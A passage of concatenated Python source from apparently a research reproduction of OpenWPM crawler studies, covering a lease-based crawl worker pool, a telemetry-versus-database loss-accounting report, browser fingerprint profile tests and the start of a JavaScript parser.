    def record_http_request(self, *args: Any, **kwargs: Any) -> None:
        kwargs["browser_id"] = self.browser_id
        self._controller.record_http_request(*args, **kwargs)

    def record_http_response(self, *args: Any, **kwargs: Any) -> None:
        kwargs["browser_id"] = self.browser_id
        self._controller.record_http_response(*args, **kwargs)

    def record_javascript(self, *args: Any, **kwargs: Any) -> None:
        kwargs["browser_id"] = self.browser_id
        self._controller.record_javascript(*args, **kwargs)

    def record_cookie(self, *args: Any, **kwargs: Any) -> None:
        kwargs["browser_id"] = self.browser_id
        self._controller.record_cookie(*args, **kwargs)

    def record_content(self, body: str, url: str,
                       content_type: str) -> str:
        return self._controller.record_content(body, url, content_type)

    def record_crash(self, site_url: str, action: str) -> None:
        self._controller.record_crash(self.browser_id, site_url, action)

    def commit(self) -> None:
        self._controller.commit()

"""Worker pool draining a :class:`~repro.sched.jobs.JobQueue`.

Each worker owns one application slot (a browser, for crawls) and runs
claim → handle → complete/fail until the queue drains or a stop is
requested. Design points:

* **Single-worker runs are inline.** With ``workers == 1`` the loop
  runs in the calling thread — no thread at all — so a 1-worker
  scheduled crawl executes the exact same Python statements in the
  exact same order as a plain sequential loop (the determinism the
  byte-identical-database test pins down).
* **Graceful shutdown.** :meth:`request_stop` lets in-flight jobs
  finish; unclaimed jobs stay ``pending`` for a later ``--resume``.
  ``KeyboardInterrupt`` in the coordinating thread triggers the same
  path.
* **Crash-safe leases.** Before claiming, workers reclaim expired
  leases, so a site stranded by a dead worker is re-run by a live one.
* **Virtual time.** When every runnable job is backing off and no
  leases are outstanding, the pool advances the (virtual) clock to the
  next retry time instead of spinning; with a real clock the advance is
  a no-op and a short nap paces the poll.

Telemetry: ``sched_workers_busy`` / ``sched_queue_depth{state=…}``
gauges, ``queue_wait_seconds`` / ``lease_duration_seconds`` histograms,
and ``sched_jobs_*`` counters — all reconciled by ``repro stats``.
"""

from __future__ import annotations

import threading
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, List, Optional

from repro.obs.telemetry import Telemetry, coalesce
from repro.sched.jobs import Job, JobQueue, LeaseError

#: handler(job, worker_index) -> result. Raise to fail the job:
#: :class:`JobFailed` controls retry explicitly; any other exception is
#: treated as a transient worker fault and retried with backoff.
JobHandler = Callable[[Job, int], Any]

#: on_terminal_failure(job, error, worker_index) — invoked after a job
#: lands in the terminal ``failed`` state, so the application can keep
#: its own loss ledger (e.g. a ``failed_visits`` row) in sync with the
#: queue.
TerminalFailureHook = Callable[[Job, str, int], None]

#: on_completed(job, worker_index) — invoked after the queue ACCEPTED
#: this worker's completion (a voided completion fires
#: on_discard_result instead). The application can reconcile verdicts
#: that arrived while the visit was in flight — e.g. retract a
#: quarantine a hung sibling attempt tripped on the now-completed site.
CompletionHook = Callable[[Job, int], None]

#: on_discard_result(job, worker_index) — invoked when this worker's
#: verdict on a job (completion *or* terminal failure) was voided by a
#: lost lease: the job will be re-run by a live worker, so whatever
#: this attempt recorded (committed visit rows, a failed_visits ledger
#: entry) must be discarded to avoid double-counting the site.
DiscardResultHook = Callable[[Job, int], None]


class JobFailed(RuntimeError):
    """Raised by a handler to fail the current job.

    ``retry=False`` marks the job terminally failed (the handler has
    already exhausted its own retry budget); ``retry=True`` sends it
    back through the queue's backoff machinery.
    """

    def __init__(self, reason: str, retry: bool = False) -> None:
        super().__init__(reason)
        self.reason = reason
        self.retry = retry


@dataclass
class PoolReport:
    """What one :meth:`WorkerPool.run` call did."""

    workers: int = 0
    claims: int = 0
    completed: int = 0
    failed: int = 0
    retried: int = 0
    reclaimed: int = 0
    #: Injected ``worker_death`` faults: claims abandoned mid-lease.
    worker_deaths: int = 0
    #: complete/fail calls rejected because the lease had expired (the
    #: job was — or will be — re-run by another worker).
    lease_lost: int = 0
    interrupted: bool = False
    errors: List[str] = field(default_factory=list)


class WorkerPool:
    """Runs *handler* over the queue with N lease-claiming workers."""

    def __init__(self, queue: JobQueue, handler: JobHandler,
                 workers: int = 1,
                 telemetry: Optional[Telemetry] = None,
                 poll_seconds: float = 0.005,
                 name: str = "worker",
                 on_terminal_failure: Optional[TerminalFailureHook] = None,
                 on_completed: Optional[CompletionHook] = None,
                 on_discard_result: Optional[DiscardResultHook] = None,
                 fault_plan: Optional[Any] = None
                 ) -> None:
        if workers < 1:
            raise ValueError("workers must be >= 1")
        self.queue = queue
        self.handler = handler
        self.workers = workers
        self.telemetry = coalesce(telemetry)
        self.poll_seconds = poll_seconds
        self.name = name
        self.on_terminal_failure = on_terminal_failure
        self.on_completed = on_completed
        self.on_discard_result = on_discard_result
        self.fault_plan = fault_plan
        if fault_plan is not None and fault_plan.clock is None:
            fault_plan.bind_clock(queue.clock)
        self._stop = threading.Event()
        self._state_lock = threading.Lock()
        self._report = PoolReport(workers=workers)
        self._stop_after: Optional[int] = None

    # ------------------------------------------------------------------
    def request_stop(self) -> None:
        """Ask workers to exit after their current job (graceful)."""
        self._stop.set()

    # ------------------------------------------------------------------
    def run(self, stop_after_jobs: Optional[int] = None) -> PoolReport:
        """Drain the queue; returns once all workers have exited.

        ``stop_after_jobs`` triggers a graceful stop once that many jobs
        reached a terminal state — the hook the interruption/resume
        tests and benchmarks use to cut a crawl short deterministically.
        """
        self._stop.clear()
        self._report = PoolReport(workers=self.workers)
        self._stop_after = stop_after_jobs
        self._publish_depth()
        if self.workers == 1:
            try:
                self._worker_loop(0)
            except KeyboardInterrupt:
                self._report.interrupted = True
        else:
            threads = [
                threading.Thread(target=self._worker_loop, args=(index,),
                                 name=f"{self.name}-{index}", daemon=True)
                for index in range(self.workers)]
            for thread in threads:
                thread.start()
            try:
                for thread in threads:
                    thread.join()
            except KeyboardInterrupt:
                self._report.interrupted = True
                self.request_stop()
                for thread in threads:
                    thread.join()
        if self._stop.is_set() and self.queue.outstanding() > 0:
            self._report.interrupted = True
        self._publish_depth()
        return self._report

    # ------------------------------------------------------------------
    def _worker_loop(self, index: int) -> None:
        owner = f"{self.name}-{index}"
        # Route this thread's flight-recorder events into the worker's
        # own journal file. The binding is thread-local, and unbound in
        # the finally below — critical for 1-worker runs, which execute
        # inline in the calling thread.
        journal = self.telemetry.journal
        journal.bind_worker(owner)
        try:
            self._worker_loop_bound(index, owner, journal)
        finally:
            journal.unbind()

    def _worker_loop_bound(self, index: int, owner: str,
                           journal: Any) -> None:
        metrics = self.telemetry.metrics
        busy = metrics.gauge("sched_workers_busy")
        queue_wait = metrics.histogram("queue_wait_seconds")
        lease_duration = metrics.histogram("lease_duration_seconds")
        while not self._stop.is_set():
            reclaim = self.queue.reclaim_expired()
            if reclaim:
                metrics.counter("sched_lease_reclaims").inc(
                    reclaim.total)
                journal.emit("lease_reclaim", owner=owner,
                             count=reclaim.total)
                with self._state_lock:
                    self._report.reclaimed += reclaim.total
                # A reclaimed job with no attempts left went terminal
                # without ever reaching a worker's fail() — count it
                # and run the loss-ledger hook here, or the site would
                # vanish from the books.
                for dead_job in reclaim.failed_jobs:
                    journal.emit("lease_expired_terminal",
                                 job_id=dead_job.job_id,
                                 url=dead_job.site_url)
                    self._count_failure(dead_job, index, "failed",
                                        "lease_expired")
                self._publish_depth()
                self._check_stop_after()
                if self._stop.is_set():
                    return
            job = self.queue.claim(owner)
            if job is None:
                if not self._idle_wait():
                    return
                continue
            if self.fault_plan is not None:
                rule = self.fault_plan.check("pool.lease",
                                             url=job.site_url)
                if rule is not None and rule.fault == "worker_death":
                    # The worker "dies" right after claiming: nothing
                    # is recorded, the lease is left to expire (burning
                    # past it so a live worker can reclaim), and this
                    # thread plays its own replacement.
                    metrics.counter("sched_worker_deaths").inc()
                    journal.emit("worker_death", job_id=job.job_id,
                                 url=job.site_url)
                    with self._state_lock:
                        self._report.worker_deaths += 1
                    self.fault_plan.burn(
                        rule.seconds or self.queue.lease_seconds + 1.0)
                    continue
            metrics.counter("sched_jobs_claimed").inc()
            journal.emit("lease_claim", job_id=job.job_id,
                         url=job.site_url, attempts=job.attempts)
            queue_wait.observe(job.claimed_at - job.enqueued_at)
            busy.inc()
            with self._state_lock:
                self._report.claims += 1
            terminal = True
            try:
                try:
                    self.handler(job, index)
                except JobFailed as failure:
                    terminal = self._fail_job(job, index,
                                              failure.reason,
                                              retry=failure.retry)
                except Exception as exc:  # transient worker fault
                    terminal = self._fail_job(job, index, repr(exc),
                                              retry=True)
                else:
                    try:
                        self.queue.complete(job.job_id, owner)
                    except LeaseError:
                        # Another worker re-leased the job: it will
                        # produce this site's data again, so the copy
                        # the handler just committed must go.
                        if self.on_discard_result is not None:
                            self.on_discard_result(job, index)
                        terminal = self._lease_lost(job)
                    else:
                        metrics.counter("sched_jobs_completed").inc()
                        journal.emit("lease_complete",
                                     job_id=job.job_id,
                                     url=job.site_url)
                        with self._state_lock:
                            self._report.completed += 1
                        if self.on_completed is not None:
                            self.on_completed(job, index)
            finally:
                busy.dec()
                lease_duration.observe(
                    self.queue.clock.peek() - job.claimed_at)
                self._publish_depth()
            if terminal:
                self._check_stop_after()

    def _fail_job(self, job: Job, index: int, error: str,
                  retry: bool) -> bool:
        try:
            state = self.queue.fail(job.job_id, job.lease_owner, error,
                                    retry=retry)
        except LeaseError:
            # The re-run owns the site's fate now: retract anything
            # this attempt already wrote to the loss ledger.
            if self.on_discard_result is not None:
                self.on_discard_result(job, index)
            return self._lease_lost(job)
        return self._count_failure(job, index, state, error)

    def _lease_lost(self, job: Job) -> bool:
        """This worker held the job past its lease: its outcome is
        void (the job was, or will be, re-run by a live worker)."""
        self.telemetry.metrics.counter("sched_leases_lost").inc()
        self.telemetry.journal.emit("lease_lost", job_id=job.job_id,
                                    url=job.site_url)
        with self._state_lock:
            self._report.lease_lost += 1
        return False

    def _check_stop_after(self) -> None:
        if self._stop_after is None:
            return
        with self._state_lock:
            done = self._report.completed + self._report.failed
        if done >= self._stop_after:
            self._stop.set()

    def _count_failure(self, job: Job, index: int, state: str,
                       error: str) -> bool:
        """Update counters after ``fail``; True when terminal."""
        metrics = self.telemetry.metrics
        self.telemetry.journal.emit("lease_fail", job_id=job.job_id,
                                    url=job.site_url, state=state,
                                    error=error)
        if state == "failed":
            metrics.counter("sched_jobs_failed").inc()
            with self._state_lock:
                self._report.failed += 1
                self._report.errors.append(error)
            if self.on_terminal_failure is not None:
                try:
                    self.on_terminal_failure(job, error, index)
                except Exception as hook_exc:
                    with self._state_lock:
                        self._report.errors.append(
                            f"on_terminal_failure: {hook_exc!r}")
            return True
        metrics.counter("sched_jobs_retried").inc()
        with self._state_lock:
            self._report.retried += 1
        return False

    # ------------------------------------------------------------------
    def _idle_wait(self) -> bool:
        """Nothing claimable: wait for work. False = queue is drained."""
        counts = self.queue.counts()
        if counts["pending"] == 0 and counts["leased"] == 0:
            return False  # drained — worker can exit
        # Every runnable job backing off and no leases live: jump
        # virtual time to the next retry instead of spinning. The queue
        # re-checks both conditions and advances under its own lock, so
        # a concurrent claim can't slip in between, and stacked idle
        # workers can't each advance past a lease. On a WallClock the
        # advance can't move time — fall through to the real nap.
        if self.queue.advance_if_idle():
            return True
        self._stop.wait(self.poll_seconds)
        return True

    def _publish_depth(self) -> None:
        metrics = self.telemetry.metrics
        if not getattr(metrics, "enabled", False):
            return
        for state, value in self.queue.counts().items():
            metrics.gauge("sched_queue_depth", state=state).set(value)

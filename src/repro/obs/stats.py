"""Crawl health / loss-accounting reports (``python -m repro stats``).

The paper shows OpenWPM loses data silently; this module makes loss
*visible* and *checkable*. A report reconciles two independent sources:

* the telemetry counters the crawl recorded as it ran (persisted in the
  ``telemetry`` table, or read live from a :class:`Telemetry`), and
* the crawl data itself (``site_visits``, ``javascript``,
  ``http_requests``, ``javascript_cookies``, ``crash_history``,
  ``failed_visits``).

Every row of the loss funnel — enqueued → attempted → completed /
crashed / given up — is cross-checked; a crawl whose books don't
balance is exactly the "gullible tool" failure mode the paper warns
about, so the CLI exits non-zero on mismatch.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional

from repro.obs.telemetry import Telemetry


def _metric_value(metrics: List[Dict[str, Any]], name: str,
                  **labels: str) -> float:
    wanted = {str(k): str(v) for k, v in labels.items()}
    for metric in metrics:
        if metric["name"] == name and (metric.get("labels") or {}) == wanted:
            return float(metric.get("value") or 0.0)
    return 0.0


def _has_metric(metrics: List[Dict[str, Any]], name: str) -> bool:
    return any(metric["name"] == name for metric in metrics)


def _table_count(storage: Any, table: str, where: str = "",
                 params: tuple = ()) -> int:
    sql = f"SELECT COUNT(*) AS n FROM {table}"  # noqa: S608 (fixed names)
    if where:
        sql += f" WHERE {where}"
    return int(storage.query(sql, params)[0]["n"])


def build_crawl_report(storage: Any,
                       telemetry: Optional[Telemetry] = None,
                       queue: Any = None) -> Dict[str, Any]:
    """Assemble the loss-accounting report for one crawl database.

    ``telemetry`` overrides the stored snapshot with live metrics (used
    mid-crawl); by default metrics come from the ``telemetry`` table.
    ``queue`` (a :class:`repro.sched.JobQueue`) adds queue-vs-database
    reconciliation for scheduled crawls: every completed job must have
    a ``site_visits`` row, and a finished crawl must leave the queue
    drained. Queue totals are compared against the *database*, not the
    telemetry counters — a resumed crawl's persisted snapshot covers
    only the final run, while the queue spans all of them.
    """
    if telemetry is not None and telemetry.enabled:
        metrics = telemetry.metrics.snapshot()
        spans = telemetry.tracer.snapshot()
    else:
        metrics = storage.telemetry_metrics()
        spans = storage.telemetry_spans()

    # --- database-side truth -----------------------------------------
    db = {
        "site_visit_rows": _table_count(storage, "site_visits"),
        "distinct_sites_visited": int(storage.query(
            "SELECT COUNT(DISTINCT site_url) AS n FROM site_visits"
        )[0]["n"]),
        "crash_rows": _table_count(storage, "crash_history",
                                   "action = 'crash'"),
        "restart_rows": _table_count(storage, "crash_history",
                                     "action = 'restart'"),
        "failed_visit_rows": _table_count(storage, "failed_visits"),
        "javascript_rows": _table_count(storage, "javascript"),
        "http_request_rows": _table_count(storage, "http_requests"),
        "cookie_rows": _table_count(storage, "javascript_cookies"),
        "content_rows": _table_count(storage, "content"),
    }
    drop_reasons: Dict[str, int] = {}
    for row in storage.query(
            "SELECT reason, COUNT(*) AS n FROM failed_visits "
            "GROUP BY reason ORDER BY n DESC"):
        drop_reasons[row["reason"] or "unknown"] = int(row["n"])

    # --- telemetry-side counters -------------------------------------
    tele = {
        "visits_attempted": _metric_value(metrics, "visits_attempted"),
        "visits_completed": _metric_value(metrics, "visits_completed"),
        "visits_crashed": _metric_value(metrics, "visits_crashed"),
        "visits_retried": _metric_value(metrics, "visits_retried"),
        "visits_failed_exhausted": _metric_value(
            metrics, "visits_failed_exhausted"),
        "visit_attempts_total": _metric_value(metrics,
                                              "visit_attempts_total"),
        "browser_restarts": _metric_value(metrics, "browser_restarts"),
        "records_js": _metric_value(metrics, "records_written",
                                    instrument="js"),
        "records_http": _metric_value(metrics, "records_written",
                                      instrument="http"),
        "records_cookie": _metric_value(metrics, "records_written",
                                        instrument="cookie"),
        "scripts_collected": _metric_value(metrics, "scripts_collected"),
        "instrumentation_blocked": _metric_value(
            metrics, "instrumentation_blocked"),
        "integrity_probe_failures": _metric_value(
            metrics, "integrity_probe_failures"),
        "recording_integrity": _metric_value(metrics,
                                             "recording_integrity"),
        "has_integrity_gauge": _has_metric(metrics, "recording_integrity"),
    }

    # --- scheduler ----------------------------------------------------
    scheduler: Optional[Dict[str, Any]] = None
    if _has_metric(metrics, "sched_jobs_claimed"):
        scheduler = {
            "jobs_claimed": _metric_value(metrics, "sched_jobs_claimed"),
            "jobs_completed": _metric_value(metrics,
                                            "sched_jobs_completed"),
            "jobs_failed": _metric_value(metrics, "sched_jobs_failed"),
            "jobs_retried": _metric_value(metrics, "sched_jobs_retried"),
            "lease_reclaims": _metric_value(metrics,
                                            "sched_lease_reclaims"),
            "queue_depth": {
                (metric.get("labels") or {}).get("state", ""):
                    int(metric.get("value") or 0)
                for metric in metrics
                if metric["name"] == "sched_queue_depth"},
        }
        for hist_name in ("queue_wait_seconds", "lease_duration_seconds"):
            for metric in metrics:
                if metric["kind"] == "histogram" \
                        and metric["name"] == hist_name:
                    count = int(metric.get("count") or 0)
                    total = float(metric.get("sum") or 0.0)
                    scheduler[hist_name] = {
                        "count": count, "total_seconds": total,
                        "mean_seconds": total / count if count else 0.0}

    # --- stage latency -----------------------------------------------
    stages = []
    for metric in metrics:
        if metric["kind"] == "histogram" \
                and metric["name"] == "stage_seconds":
            count = int(metric.get("count") or 0)
            total = float(metric.get("sum") or 0.0)
            stages.append({
                "stage": (metric.get("labels") or {}).get("stage", ""),
                "count": count,
                "total_seconds": total,
                "mean_seconds": total / count if count else 0.0,
            })
    stages.sort(key=lambda s: -s["total_seconds"])

    # --- reconciliation ----------------------------------------------
    has_telemetry = bool(metrics)
    checks: List[Dict[str, Any]] = []

    def check(name: str, lhs: float, rhs: float) -> None:
        checks.append({"check": name, "telemetry": lhs, "database": rhs,
                       "ok": int(lhs) == int(rhs)})

    if has_telemetry:
        check("visits_attempted == completed + failed_exhausted",
              tele["visits_attempted"],
              tele["visits_completed"] + tele["visits_failed_exhausted"])
        check("visit_attempts_total == completed + crashed",
              tele["visit_attempts_total"],
              tele["visits_completed"] + tele["visits_crashed"])
        check("visit_attempts_total == site_visits rows",
              tele["visit_attempts_total"], db["site_visit_rows"])
        check("visits_crashed == crash_history rows",
              tele["visits_crashed"], db["crash_rows"])
        check("visits_failed_exhausted == failed_visits rows",
              tele["visits_failed_exhausted"], db["failed_visit_rows"])
        check("records_written{js} == javascript rows",
              tele["records_js"], db["javascript_rows"])
        check("records_written{http} == http_requests rows",
              tele["records_http"], db["http_request_rows"])
        check("records_written{cookie} == javascript_cookies rows",
              tele["records_cookie"], db["cookie_rows"])
    if has_telemetry and scheduler is not None:
        check("sched_jobs_completed == visits_completed",
              scheduler["jobs_completed"], tele["visits_completed"])
        check("sched_jobs_failed == visits_failed_exhausted",
              scheduler["jobs_failed"], tele["visits_failed_exhausted"])

    queue_state: Optional[Dict[str, Any]] = None
    if queue is not None:
        counts = queue.counts()
        completed_sites = queue.sites(status="completed")
        visited = {row["site_url"] for row in storage.query(
            "SELECT DISTINCT site_url FROM site_visits")}
        visited_completed = sum(1 for site in completed_sites
                                if site in visited)
        queue_state = {
            "counts": counts,
            "drained": counts.get("pending", 0) == 0
            and counts.get("leased", 0) == 0,
        }
        check("completed queue jobs have site_visits rows",
              len(completed_sites), visited_completed)
        check("queue drained (pending + leased == 0)",
              counts.get("pending", 0) + counts.get("leased", 0), 0)

    return {
        "has_telemetry": has_telemetry,
        "database": db,
        "telemetry": tele,
        "scheduler": scheduler,
        "queue": queue_state,
        "drop_reasons": drop_reasons,
        "stages": stages,
        "span_count": len(spans),
        "reconciliation": checks,
        "reconciled": all(c["ok"] for c in checks),
    }


def render_crawl_report(report: Dict[str, Any]) -> str:
    """The human-readable crawl health report."""
    db = report["database"]
    tele = report["telemetry"]
    lines: List[str] = []
    push = lines.append

    push("Crawl health report")
    push("===================")
    push("")
    push("Loss accounting (sites)")
    attempted = int(tele["visits_attempted"])
    completed = int(tele["visits_completed"])
    failed = int(tele["visits_failed_exhausted"])
    if report["has_telemetry"]:
        rate = (completed / attempted * 100.0) if attempted else 0.0
        push(f"  enqueued ............... {attempted}")
        push(f"  completed .............. {completed}  ({rate:.1f}%)")
        push(f"  given up (exhausted) ... {failed}")
        push(f"  crashes (retried) ...... {int(tele['visits_crashed'])}"
             f"  (retries: {int(tele['visits_retried'])}, "
             f"restarts: {int(tele['browser_restarts'])})")
    else:
        push("  (no telemetry snapshot in this database — "
             "database-side view only)")
    push(f"  site_visits rows ....... {db['site_visit_rows']}"
         f"  (distinct sites: {db['distinct_sites_visited']})")
    push("")

    push("Records written")
    push(f"  javascript ............. {db['javascript_rows']}")
    push(f"  http_requests .......... {db['http_request_rows']}")
    push(f"  javascript_cookies ..... {db['cookie_rows']}")
    push(f"  content (archived) ..... {db['content_rows']}"
         f"  (scripts collected: {int(tele['scripts_collected'])})")
    push("")

    push("Recording integrity")
    if tele["has_integrity_gauge"]:
        healthy = tele["recording_integrity"] >= 1.0 \
            and tele["integrity_probe_failures"] == 0
        state = "OK" if healthy else "COMPROMISED"
        push(f"  gauge .................. "
             f"{int(tele['recording_integrity'])} ({state})")
        push(f"  probe failures ......... "
             f"{int(tele['integrity_probe_failures'])}")
    else:
        push("  (no JS instrument in this crawl — gauge not set)")
    push(f"  instrumentation blocked  "
         f"{int(tele['instrumentation_blocked'])}")
    push("")

    scheduler = report.get("scheduler")
    if scheduler is not None:
        push("Scheduler")
        push(f"  jobs claimed ........... "
             f"{int(scheduler['jobs_claimed'])}")
        push(f"  jobs completed ......... "
             f"{int(scheduler['jobs_completed'])}")
        push(f"  jobs failed ............ {int(scheduler['jobs_failed'])}"
             f"  (retried: {int(scheduler['jobs_retried'])}, "
             f"lease reclaims: {int(scheduler['lease_reclaims'])})")
        depth = scheduler.get("queue_depth") or {}
        if depth:
            push("  queue depth ............ "
                 + ", ".join(f"{state}={count}"
                             for state, count in sorted(depth.items())))
        for hist_name, label in (
                ("queue_wait_seconds", "queue wait"),
                ("lease_duration_seconds", "lease duration")):
            hist = scheduler.get(hist_name)
            if hist:
                push(f"  {label + ' (mean s) ':.<24} "
                     f"{hist['mean_seconds']:.4f}  "
                     f"(n={hist['count']})")
        push("")

    queue_state = report.get("queue")
    if queue_state is not None:
        push("Queue (persistent)")
        push("  " + ", ".join(
            f"{state}={count}"
            for state, count in sorted(queue_state["counts"].items())))
        push("  drained ................ "
             + ("yes" if queue_state["drained"] else "NO"))
        push("")

    if report["drop_reasons"]:
        push("Drop reasons (failed_visits)")
        for reason, count in report["drop_reasons"].items():
            push(f"  {reason} ... {count} site(s)")
        push("")

    if report["stages"]:
        push("Stage latency (virtual seconds)")
        push("  stage              count      total       mean")
        for stage in report["stages"]:
            push(f"  {stage['stage']:<18} {stage['count']:>5} "
                 f"{stage['total_seconds']:>10.3f} "
                 f"{stage['mean_seconds']:>10.4f}")
        push("")

    if report["reconciliation"]:
        push("Reconciliation (telemetry vs database)")
        for entry in report["reconciliation"]:
            mark = "OK " if entry["ok"] else "FAIL"
            push(f"  [{mark}] {entry['check']}: "
                 f"{int(entry['telemetry'])} vs {int(entry['database'])}")
        push("")
        push("BOOKS BALANCE" if report["reconciled"]
             else "BOOKS DO NOT BALANCE — crawl data is not trustworthy")
    return "\n".join(lines)

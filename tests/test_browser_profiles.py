"""Unit tests for the fingerprint profile database (Tables 2-4)."""

import pytest

from repro.browser.profiles import (
    chrome_profile,
    consumer_profiles,
    openwpm_profile,
    opera_profile,
    safari_profile,
    stock_firefox_profile,
    webgl_property_names,
)


class TestGeometry:
    """Table 3: screen properties per configuration."""

    @pytest.mark.parametrize("os_name,mode,resolution,position,offset", [
        ("macos", "regular", (2560, 1440), (23, 4), (0, 0)),
        ("macos", "headless", (1366, 768), (4, 4), (0, 0)),
        ("ubuntu", "regular", (2560, 1440), (80, 35), (8, 8)),
        ("ubuntu", "headless", (1366, 768), (0, 0), (0, 0)),
        ("ubuntu", "xvfb", (1366, 768), (0, 0), (0, 0)),
        ("ubuntu", "docker", (2560, 1440), (0, 0), (0, 0)),
    ])
    def test_table3_rows(self, os_name, mode, resolution, position, offset):
        profile = openwpm_profile(os_name, mode)
        assert (profile.screen["width"], profile.screen["height"]) \
            == resolution
        assert profile.window_position == position
        assert profile.window_offset == offset
        assert profile.window_size == (1366, 683)

    def test_display_less_modes_have_zero_avail_top(self):
        """Sec. 3.1.2: availTop is 0 without a desktop UI."""
        for mode in ("headless", "xvfb"):
            profile = openwpm_profile("ubuntu", mode)
            assert profile.screen["availTop"] == 0.0
            assert profile.screen["availLeft"] == 0.0

    def test_regular_and_docker_have_desktop_avail(self):
        """Table 4: RM and Docker report 27, 72 on Ubuntu."""
        for mode in ("regular", "docker"):
            profile = openwpm_profile("ubuntu", mode)
            assert profile.screen["availTop"] == 27.0
            assert profile.screen["availLeft"] == 72.0

    def test_window_overrides(self):
        profile = openwpm_profile("ubuntu", "regular",
                                  window_size=(1280, 940),
                                  window_position=(200, 100))
        assert profile.window_size == (1280, 940)
        assert profile.window_position == (200, 100)

    def test_unsupported_setup_rejected(self):
        with pytest.raises(ValueError):
            openwpm_profile("macos", "docker-ish")


class TestWebGL:
    """Table 2/4: WebGL property cardinalities and vendors."""

    def test_headless_has_no_webgl(self):
        assert openwpm_profile("ubuntu", "headless").webgl is None
        assert openwpm_profile("macos", "headless").webgl is None

    def test_property_universe_sizes(self):
        assert len(webgl_property_names("ubuntu")) == 2061
        assert len(webgl_property_names("macos")) == 2037

    def test_vendor_strings_table4(self):
        assert openwpm_profile("ubuntu", "regular").webgl["VENDOR"] == "AMD"
        assert openwpm_profile("ubuntu", "regular").webgl["RENDERER"] \
            == "AMD TAHITI"
        assert openwpm_profile("ubuntu", "xvfb").webgl["VENDOR"] \
            == "Mesa/X.org"
        assert "llvmpipe (LLVM 12" in openwpm_profile(
            "ubuntu", "xvfb").webgl["RENDERER"]
        assert openwpm_profile("ubuntu", "docker").webgl["VENDOR"] \
            == "VMware, Inc."
        assert "llvmpipe (LLVM 10" in openwpm_profile(
            "ubuntu", "docker").webgl["RENDERER"]

    def test_xvfb_deviation_count_is_18(self):
        regular = openwpm_profile("ubuntu", "regular").webgl
        xvfb = openwpm_profile("ubuntu", "xvfb").webgl
        missing = set(regular) - set(xvfb)
        changed = {k for k in xvfb if k in regular
                   and xvfb[k] != regular[k]}
        assert len(missing) + len(changed) == 18

    def test_docker_deviation_count_is_27(self):
        regular = openwpm_profile("ubuntu", "regular").webgl
        docker = openwpm_profile("ubuntu", "docker").webgl
        changed = {k for k in docker if docker[k] != regular.get(k)}
        assert len(changed) == 27

    def test_webgl_names_deterministic(self):
        assert webgl_property_names("ubuntu") == webgl_property_names(
            "ubuntu")


class TestIdentityProperties:
    def test_openwpm_sets_webdriver(self):
        assert openwpm_profile("ubuntu", "regular").navigator["webdriver"] \
            is True

    def test_stock_firefox_does_not(self):
        assert stock_firefox_profile("ubuntu").navigator["webdriver"] \
            is False

    def test_headless_language_pollution_is_43(self):
        assert len(openwpm_profile(
            "ubuntu", "headless").languages_extra) == 43
        assert openwpm_profile("ubuntu", "regular").languages_extra == []

    def test_docker_single_font_and_utc(self):
        profile = openwpm_profile("ubuntu", "docker")
        assert profile.fonts == ["Bitstream Vera Sans Mono"]
        assert profile.timezone_offset == 0

    def test_macos_has_one_extra_navigator_property(self):
        mac = set(openwpm_profile("macos", "regular").navigator)
        ubuntu = set(openwpm_profile("ubuntu", "regular").navigator)
        assert len(mac) == len(ubuntu) + 1

    def test_consumer_fleet_composition(self):
        profiles = consumer_profiles()
        assert len(profiles) == 7
        assert all(not p.automation for p in profiles)

    def test_other_browsers_share_limited_webgl_overlap(self):
        """Sec. 3.3: ~200 WebGL properties are not unique to Firefox."""
        firefox = set(stock_firefox_profile("ubuntu").webgl)
        chrome = set(chrome_profile("ubuntu").webgl)
        assert len(firefox & chrome) == 200

    def test_browsers_have_distinct_user_agents(self):
        agents = {p.navigator["userAgent"]
                  for p in [chrome_profile(), safari_profile(),
                            opera_profile(), stock_firefox_profile()]}
        assert len(agents) == 4

"""The paper's contribution: fingerprint analysis, attacks, hardening, scan.

* :mod:`repro.core.fingerprint` — Sec. 3: OpenWPM's fingerprint surface
  (probe lists + template attacks), validation detector.
* :mod:`repro.core.attacks` — Sec. 5: attacks on data recording.
* :mod:`repro.core.hardening` — Sec. 6: WPM_hide, the hardened
  instrumentation and stealth layer.
* :mod:`repro.core.scan` — Sec. 4: static + dynamic detector scan.
* :mod:`repro.core.comparison` — Sec. 6.3: paired WPM vs WPM_hide crawl.
"""

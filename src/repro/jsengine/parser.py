"""Recursive-descent / Pratt parser for the JS subset."""

from __future__ import annotations

import sys
from typing import List, Optional

from repro.jsengine import ast_nodes as ast
from repro.jsengine.lexer import Lexer, Token


class ParseError(SyntaxError):
    """Raised on syntactically invalid input."""

    def __init__(self, message: str, token: Token) -> None:
        super().__init__(
            f"{message} at line {token.line}, col {token.column}"
            f" (near {token.value!r})")
        self.token = token


# Binary operator precedences (higher binds tighter).
_BINARY_PRECEDENCE = {
    "|": 3, "^": 4, "&": 5,
    "==": 6, "!=": 6, "===": 6, "!==": 6,
    "<": 7, ">": 7, "<=": 7, ">=": 7, "instanceof": 7, "in": 7,
    "<<": 8, ">>": 8, ">>>": 8,
    "+": 9, "-": 9,
    "*": 10, "/": 10, "%": 10,
    "**": 11,
}

_ASSIGN_OPS = {"=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^="}


class Parser:
    """Parses a token stream into a :class:`repro.jsengine.ast_nodes.Program`."""

    def __init__(self, source: str) -> None:
        self.source = source
        self.tokens = Lexer(source).tokenize()
        self.pos = 0

    # ------------------------------------------------------------------
    # Token helpers
    # ------------------------------------------------------------------
    @property
    def current(self) -> Token:
        return self.tokens[self.pos]

    def peek(self, offset: int = 1) -> Token:
        index = min(self.pos + offset, len(self.tokens) - 1)
        return self.tokens[index]

    def advance(self) -> Token:
        token = self.current
        if self.pos < len(self.tokens) - 1:
            self.pos += 1
        return token

    def expect(self, kind: str, value: Optional[str] = None) -> Token:
        if not self.current.matches(kind, value):
            expected = value if value is not None else kind
            raise ParseError(f"expected {expected!r}", self.current)
        return self.advance()

    def accept(self, kind: str, value: Optional[str] = None) -> Optional[Token]:
        if self.current.matches(kind, value):
            return self.advance()
        return None

    def _consume_semicolon(self) -> None:
        """Require ';' with a pragmatic ASI rule.

        A statement may also be terminated by '}' / EOF, or by a line
        break before the next token.
        """
        if self.accept("punct", ";"):
            return
        if self.current.kind == "eof" or self.current.matches("punct", "}"):
            return
        if self.current.newline_before:
            return
        raise ParseError("expected ';'", self.current)

    @staticmethod
    def _pos(token: Token) -> dict:
        return {"line": token.line, "column": token.column}

    # ------------------------------------------------------------------
